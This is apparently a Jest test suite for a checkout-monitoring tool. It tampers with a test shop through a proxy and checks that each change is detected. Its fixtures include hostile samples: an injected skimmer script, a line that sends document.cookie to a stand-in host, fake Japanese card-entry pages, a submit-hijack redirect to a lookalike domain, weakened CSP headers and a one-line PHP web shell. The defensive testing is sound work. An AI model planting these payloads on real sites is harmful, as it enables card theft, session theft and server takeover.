/**
 * The patrol against the real shop, with a tampering proxy in front of it where shoppers reach
 * it: a baseline of the shop as it should be, ten clean runs that must raise nothing (nonces,
 * CSRF tokens, booking references and dates must not count), then one tampering at a time, each
 * of which one run must report with the right severity. The patrol asks the shop's sandbox about
 * each session with the shop's restricted (read) key, as it would ask Stripe.
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import { parseCheckoutRequest } from "@linkpay/core";
import {
  type AlertSink,
  approveCommand,
  baselineCommand,
  type CommandContext,
  checkCommand,
  createManifest,
  type Finding,
  type PatrolAlert,
  parsePatrolConfig,
  writeManifest,
} from "@linkpay/patrol";
import { createStripeCheckoutReader, createStripeProvider } from "@linkpay/stripe";
import { requireChromium } from "../test-support/browser";
import {
  injectIntoHead,
  type SiteProxy,
  startSiteProxy,
  type Tampering,
} from "../test-support/site-proxy";
import { startTestApp, type TestApp } from "../test-support/test-app";

/** Clean runs in CI (the long run of 100 is documented in docs/patrol.md). */
const CLEAN_RUNS = Number(process.env.PATROL_CLEAN_RUNS ?? 10);
const LOOKALIKE = "http://checkout-stripe.invalid";
/** The shop's CSP report feed token (PATROL_FEED_TOKEN). */
const FEED_TOKEN = "patrol-feed-token-for-the-tamper-suite-0123456789";

/** The demo's shipped patrol config. */
function shippedConfig(): { journeys: unknown[] } {
  return JSON.parse(readFileSync(join(__dirname, "../../linkpay-patrol.json"), "utf8"));
}

const runBrowser = requireChromium();
(runBrowser ? describe : describe.skip)("the patrol against the shop, tampered with", () => {
  let app: TestApp;
  let proxy: SiteProxy;
  let stateDir: string;
  /** A copy of the app's build, as deployed: the manifest's root. */
  let buildDir: string;
  let context: CommandContext;
  let baseline: Awaited<ReturnType<typeof baselineCommand>>;
  const alerts: PatrolAlert[] = [];
  const output: string[] = [];

  beforeAll(async () => {
    proxy = await startSiteProxy();
    // No fixed sandbox key: every sk_test_ key is an account of its own, so the attacker below
    // can have a merchant account of their own at the same provider.
    app = await startTestApp({
      env: { PUBLIC_BASE_URL: proxy.origin, PATROL_FEED_TOKEN: FEED_TOKEN },
      sandbox: { apiKey: undefined },
    });
    proxy.setTarget(`http://127.0.0.1:${app.port}`);
    stateDir = mkdtempSync(join(tmpdir(), "patrol-state-"));
    buildDir = join(stateDir, "build");
    cpSync(join(__dirname, "../../dist"), buildDir, { recursive: true });
    await writeManifest(join(stateDir, "manifest.json"), await createManifest({ root: buildDir }));
    const sandbox = app.sandbox;
    if (sandbox === undefined || app.sandboxKey === undefined)
      throw new Error("the test app has no sandbox");
    const config = parsePatrolConfig(
      {
        site: proxy.origin,
        pages: ["/?lang=ja", "/?lang=en", "/cancellation-policy"],
        // The journey the demo ships (linkpay-patrol.json), as users run it.
        journeys: shippedConfig().journeys,
        provider: {
          type: "stripe",
          secretKey: { env: "KEY" },
          apiBaseUrl: sandbox.origin,
          checkoutOrigins: [sandbox.origin],
        },
        stateDir,
        manifest: { root: buildDir, file: "manifest.json" },
        browser: { timeoutMs: 10_000 },
      },
      { baseDir: stateDir, env: { KEY: app.sandboxKey.replace(/^sk_/, "rk_") } },
    );
    const sink: AlertSink = {
      name: "test",
      send: async (alert) => {
        alerts.push(alert);
      },
    };
    context = {
      config,
      reader: createStripeCheckoutReader({
        secretKey: config.provider.secretKey,
        apiBaseUrl: sandbox.origin,
        checkoutOrigins: [sandbox.origin],
      }),
      sinks: [sink],
      print: (text) => output.push(text),
    };
    // Every test compares with this baseline, whichever tests run.
    baseline = await baselineCommand(context, "the demo as built");
  }, 90_000);

  afterAll(async () => {
    await proxy?.close();
    await app?.close();
    if (stateDir !== undefined) rmSync(stateDir, { recursive: true, force: true });
  });

  /** One `check` under `tampering`; returns the findings (and puts the proxy back to clean). */
  async function checkWith(
    tampering: Tampering | undefined,
  ): Promise<{ exitCode: number; findings: readonly Finding[]; runId: string }> {
    proxy.tamper(tampering);
    alerts.length = 0;
    try {
      const { exitCode, report } = await checkCommand(context);
      return { exitCode, findings: report.findings, runId: report.runId };
    } finally {
      proxy.tamper(undefined);
    }
  }

  const summary = (findings: readonly Finding[]) =>
    findings.map((f) => `${f.severity} ${f.code} ${f.where} ${f.subject}: ${f.message}`);
  const has = (findings: readonly Finding[], code: Finding["code"]) =>
    findings.filter((f) => f.code === code).map((f) => f.severity);

  it("records the shop as it should be", () => {
    const { exitCode, report } = baseline;
    expect(summary(report.findings.filter((f) => f.severity !== "info"))).toEqual([]);
    expect(exitCode).toBe(0);
    expect(report.snapshot.redirects[0]?.hops.map((hop) => hop.cause)).toEqual([
      "submit",
      "redirect",
    ]);
  });

  it(
    `raises nothing in ${CLEAN_RUNS} clean runs in a row`,
    async () => {
      for (let run = 0; run < CLEAN_RUNS; run += 1) {
        const { exitCode, findings } = await checkWith(undefined);
        expect({ run, findings: summary(findings.filter((f) => f.severity !== "info")) }).toEqual({
          run,
          findings: [],
        });
        expect(exitCode).toBe(0);
        expect(alerts).toEqual([]);
      }
    },
    30_000 * CLEAN_RUNS,
  );

  const SKIMMER = "http://skimmer.invalid/skim.js";
  const htmlOn = (path: RegExp, markup: string): Tampering => ({
    rewrite: (request, answer) =>
      path.test(request.path) ? injectIntoHead(answer, markup) : answer,
  });
  const headersOn = (
    edit: (
      headers: Record<string, string | string[] | undefined>,
    ) => Record<string, string | string[] | undefined>,
  ): Tampering => ({
    rewrite: (_request, answer) => ({ ...answer, headers: edit({ ...answer.headers }) }),
  });
  const csp = (headers: Record<string, string | string[] | undefined>) =>
    String(headers["content-security-policy"] ?? "");

  it("finds an injected third-party script (critical) and alerts once", async () => {
    const { exitCode, findings } = await checkWith(
      htmlOn(/^\/book/, `<script src="${SKIMMER}"></script>`),
    );
    expect(has(findings, "SCRIPT_ADDED")).toContain("critical");
    expect(findings.find((f) => f.code === "SCRIPT_ADDED")?.subject).toBe(SKIMMER);
    expect(exitCode).toBe(2);
    expect(alerts.map((alert) => alert.verdict)).toEqual(["critical"]);
  }, 60_000);

  it("finds an added inline script (critical)", async () => {
    const { findings } = await checkWith(
      htmlOn(
        /^\/book(\?|$)/,
        "<script>document.forms[1].addEventListener('submit',()=>{})</script>",
      ),
    );
    expect(has(findings, "INLINE_SCRIPT_ADDED")).toEqual(["critical"]);
  }, 60_000);

  /** The booking page loads `/assets/site.js`, same-origin (allowed by 'self'), serving `body`. */
  const firstPartyScript = (body: string): Tampering => ({
    answer: async (request) =>
      request.path === "/assets/site.js"
        ? { status: 200, headers: { "content-type": "text/javascript" }, body: Buffer.from(body) }
        : undefined,
    rewrite: (request, answer) =>
      /^\/book(\?|$)/.test(request.path)
        ? injectIntoHead(answer, '<script src="/assets/site.js"></script>')
        : answer,
  });

  it("finds a changed first-party script (critical)", async () => {
    // The shop serves no script of its own: the attacker's loader is same-origin, allowed by 'self'.
    const { findings: first, runId } = await checkWith(firstPartyScript("/* analytics v1 */"));
    expect(has(first, "SCRIPT_ADDED")).toEqual(["critical"]);
    // Approving that run makes the script part of the baseline; then its content changes.
    await approveCommand(context, {
      runId,
      reason: "a first-party analytics script was added on purpose",
    });
    const changed = await checkWith(
      firstPartyScript("/* analytics v1 */ fetch('//x.invalid/'+document.cookie)"),
    );
    expect(has(changed.findings, "SCRIPT_CHANGED")).toEqual(["critical"]);
    // The script goes away again: the baseline returns to the shop as built.
    const gone = await checkWith(undefined);
    expect(has(gone.findings, "SCRIPT_REMOVED")).toEqual(["info"]);
    await approveCommand(context, {
      runId: gone.runId,
      reason: "the analytics script was removed again",
    });
  }, 120_000);

  it("finds a card-number form on the shop's own page (critical)", async () => {
    const form =
      '<form action="/pay" method="post"><label>カード番号 <input name="cardnumber" autocomplete="cc-number"></label><input name="cvc"></form>';
    const { findings } = await checkWith({
      rewrite: (request, answer) =>
        /^\/book/.test(request.path)
          ? {
              ...answer,
              body: Buffer.from(answer.body.toString().replace("</main>", `${form}</main>`)),
            }
          : answer,
    });
    expect(has(findings, "CARD_INPUT")).toContain("critical");
  }, 60_000);

  it("finds the 'go to payment' POST answered with a redirect to a lookalike fake payment page (critical)", async () => {
    const { findings } = await checkWith({
      rewrite: (request, answer) =>
        request.method === "POST" && request.path === "/bookings"
          ? {
              ...answer,
              headers: { ...answer.headers, location: `${LOOKALIKE}/c/pay/cs_test_fake` },
            }
          : answer,
    });
    expect(has(findings, "REDIRECT_OFF_LIST")).toEqual(["critical"]);
    expect(findings.find((f) => f.code === "REDIRECT_OFF_LIST")?.subject).toBe(LOOKALIKE);
  }, 60_000);

  it("finds a fake payment page served from the shop's own origin that forwards to the real one (critical)", async () => {
    let realLocation = "";
    const { findings } = await checkWith({
      answer: async (request) =>
        request.path === "/secure-payment"
          ? {
              status: 200,
              headers: { "content-type": "text/html; charset=utf-8" },
              body: Buffer.from(
                `<!doctype html><title>Pay</title><form method="get" action="${realLocation}"><input name="number" autocomplete="cc-number"><button>Pay</button></form><meta http-equiv="refresh" content="0; url=${realLocation}">`,
              ),
            }
          : undefined,
      rewrite: (request, answer) => {
        if (request.method !== "POST" || request.path !== "/bookings") return answer;
        realLocation = String(answer.headers.location ?? "");
        return { ...answer, headers: { ...answer.headers, location: "/secure-payment" } };
      },
    });
    expect(has(findings, "REDIRECT_EXTRA_HOP")).toContain("critical");
  }, 60_000);

  it("finds a fake payment page on the shop's own origin that waits for the card (critical)", async () => {
    const { findings } = await checkWith({
      answer: async (request) =>
        request.path === "/secure-payment"
          ? {
              status: 200,
              headers: { "content-type": "text/html; charset=utf-8" },
              body: Buffer.from(
                '<!doctype html><title>お支払い</title><form method="post" action="/secure-payment"><label>カード番号 <input name="number" inputmode="numeric"></label><label>セキュリティコード <input name="code"></label><button>支払う</button></form>',
              ),
            }
          : undefined,
      rewrite: (request, answer) =>
        request.method === "POST" && request.path === "/bookings"
          ? { ...answer, headers: { ...answer.headers, location: "/secure-payment" } }
          : answer,
    });
    expect(has(findings, "REDIRECT_NOT_REACHED")).toEqual(["critical"]);
    expect(
      findings.filter((f) => f.code === "CARD_INPUT").map((f) => `${f.severity} ${f.where}`),
    ).toEqual(["critical journey:book a car#landing", "critical journey:book a car#landing"]);
  }, 60_000);

  it("finds a JavaScript navigation to a fake page instead of the form's submit (critical)", async () => {
    const hijack = `<script>addEventListener("submit", (e) => { if (e.target.action.endsWith("/bookings")) { e.preventDefault(); location.href = "${LOOKALIKE}/c/pay/cs_test_fake"; } }, true);</script>`;
    const { findings } = await checkWith({
      rewrite: (request, answer) => {
        if (!/^\/book/.test(request.path)) return answer;
        // The attacker also drops the CSP that would block their inline script.
        const { "content-security-policy": _, ...headers } = answer.headers;
        return injectIntoHead({ ...answer, headers }, hijack);
      },
    });
    expect(has(findings, "REDIRECT_SCRIPT_NAVIGATION")).toEqual(["critical"]);
    expect(has(findings, "CSP_REMOVED")).toContain("critical");
  }, 60_000);

  it("finds a redirect to the real provider with another merchant's session (critical)", async () => {
    const other = await sessionAt(`sk_test_${"other".repeat(6)}`, {
      email: "someone@example.com",
      total: 12_100,
    });
    const { findings } = await checkWith({
      rewrite: (request, answer) =>
        request.method === "POST" && request.path === "/bookings"
          ? { ...answer, headers: { ...answer.headers, location: other } }
          : answer,
    });
    expect(has(findings, "SESSION_UNKNOWN")).toEqual(["critical"]);
  }, 60_000);

  it("finds a redirect to a session of this merchant for another amount (critical)", async () => {
    // The e-mail is typed on the booking form (POST /book/confirm); POST /bookings carries the draft.
    let email = "";
    const { findings } = await checkWith({
      rewrite: async (request, answer) => {
        if (request.method === "POST" && request.path === "/book/confirm") {
          email = new URLSearchParams(request.body.toString()).get("email") ?? "";
        }
        if (request.method !== "POST" || request.path !== "/bookings") return answer;
        const key = app.sandboxKey ?? "";
        return {
          ...answer,
          headers: { ...answer.headers, location: await sessionAt(key, { email, total: 99_000 }) },
        };
      },
    });
    expect(has(findings, "SESSION_WRONG_AMOUNT")).toEqual(["critical"]);
    expect(has(findings, "SESSION_WRONG_BOOKING")).toEqual([]);
  }, 60_000);

  it("finds the CSP removed (critical)", async () => {
    const { findings } = await checkWith(
      headersOn(({ "content-security-policy": _, ...headers }) => headers),
    );
    expect(has(findings, "CSP_REMOVED")).toContain("critical");
  }, 60_000);

  it("finds the CSP weakened: 'unsafe-inline' scripts and a wildcard form-action (critical)", async () => {
    const { findings } = await checkWith(
      headersOn((headers) => ({
        ...headers,
        "content-security-policy": csp(headers)
          // The nonce gives way to 'unsafe-inline' (next to a nonce, browsers would ignore it).
          .replace(/script-src [^;]*/, "script-src 'self' 'unsafe-inline'")
          .replace(/form-action [^;]*/, "form-action *"),
      })),
    );
    const weakened = findings.filter((f) => f.code === "CSP_WEAKENED");
    expect(new Set(weakened.map((f) => `${f.severity} ${f.subject}`))).toEqual(
      new Set(["critical script-src", "critical form-action"]),
    );
  }, 60_000);

  it("finds frame-ancestors removed along with X-Frame-Options (critical)", async () => {
    const { findings } = await checkWith(
      headersOn(({ "x-frame-options": _, ...headers }) => ({
        ...headers,
        "content-security-policy": csp(headers).replace(/;?\s*frame-ancestors [^;]*/, ""),
      })),
    );
    expect(has(findings, "FRAME_ANCESTORS_REMOVED")).toContain("critical");
  }, 60_000);

  it("finds a web shell dropped into the deployed build (critical)", async () => {
    const shell = join(buildDir, "shell.php");
    writeFileSync(shell, '<?php system($_GET["c"]);');
    try {
      const { findings } = await checkWith(undefined);
      expect(summary(findings.filter((f) => f.code === "FILE_ADDED"))).toEqual([
        expect.stringMatching(/^critical FILE_ADDED shell\.php shell\.php: /),
      ]);
    } finally {
      unlinkSync(shell);
    }
  }, 60_000);

  it("reads what real shoppers' browsers reported between two runs (critical)", async () => {
    // The same patrol, reading the shop's feed of CSP reports since its previous run.
    const withFeed: CommandContext = {
      ...context,
      config: {
        ...context.config,
        cspReports: { url: `${proxy.origin}/.well-known/linkpay/csp-reports`, token: FEED_TOKEN },
      },
    };
    proxy.tamper(undefined);
    // The first run with the feed opens the window (it may hold what this suite's own tampered
    // runs made Chromium report); the next run reads only what came after.
    await checkCommand(withFeed);
    // Between runs, a shopper's browser blocks a skimming script and reports it.
    const report = await fetch(`${proxy.origin}/csp-reports`, {
      method: "POST",
      headers: { "content-type": "application/csp-report" },
      body: JSON.stringify({
        "csp-report": {
          "document-uri": `${proxy.origin}/book?carClass=K`,
          "blocked-uri": SKIMMER,
          "effective-directive": "script-src-elem",
          "violated-directive": "script-src-elem",
          disposition: "enforce",
        },
      }),
    });
    expect(report.status).toBe(204);
    const { findings } = await checkCommand(withFeed).then(({ report: r }) => r);
    expect(summary(findings.filter((f) => f.code === "CSP_VIOLATION_REPORTED"))).toEqual([
      expect.stringMatching(
        new RegExp(
          `^critical CSP_VIOLATION_REPORTED /book ${SKIMMER.replace(/[.]/g, "\\.")} script-src-elem: `,
        ),
      ),
    ]);
  }, 60_000);

  /** A Checkout Session at the shop's sandbox made with `secretKey`, as an attacker would; its hosted URL. */
  async function sessionAt(
    secretKey: string,
    input: { email: string; total: number },
  ): Promise<string> {
    const sandbox = app.sandbox;
    if (sandbox === undefined) throw new Error("no sandbox");
    const provider = createStripeProvider({
      secretKey,
      webhookSecrets: "whsec_unused_by_this_test",
      apiBaseUrl: sandbox.origin,
      checkoutOrigins: [sandbox.origin],
    });
    const request = parseCheckoutRequest({
      orderRef: `RC-EVIL-${input.total}`,
      currency: "JPY",
      total: input.total,
      customerEmail: input.email,
      lineItems: [{ name: "Compact car", unitAmount: input.total, quantity: 1 }],
    });
    const session = await provider.createCheckout(
      {
        ...request,
        attemptId: `att_${input.total}`,
        successUrl: `${proxy.origin}/done`,
        cancelUrl: `${proxy.origin}/`,
        expiresAt: new Date(Date.now() + 3_600_000),
        paymentMethods: ["card"],
      },
      { idempotencyKey: `evil-${Math.random()}` },
    );
    return session.hostedUrl;
  }
});
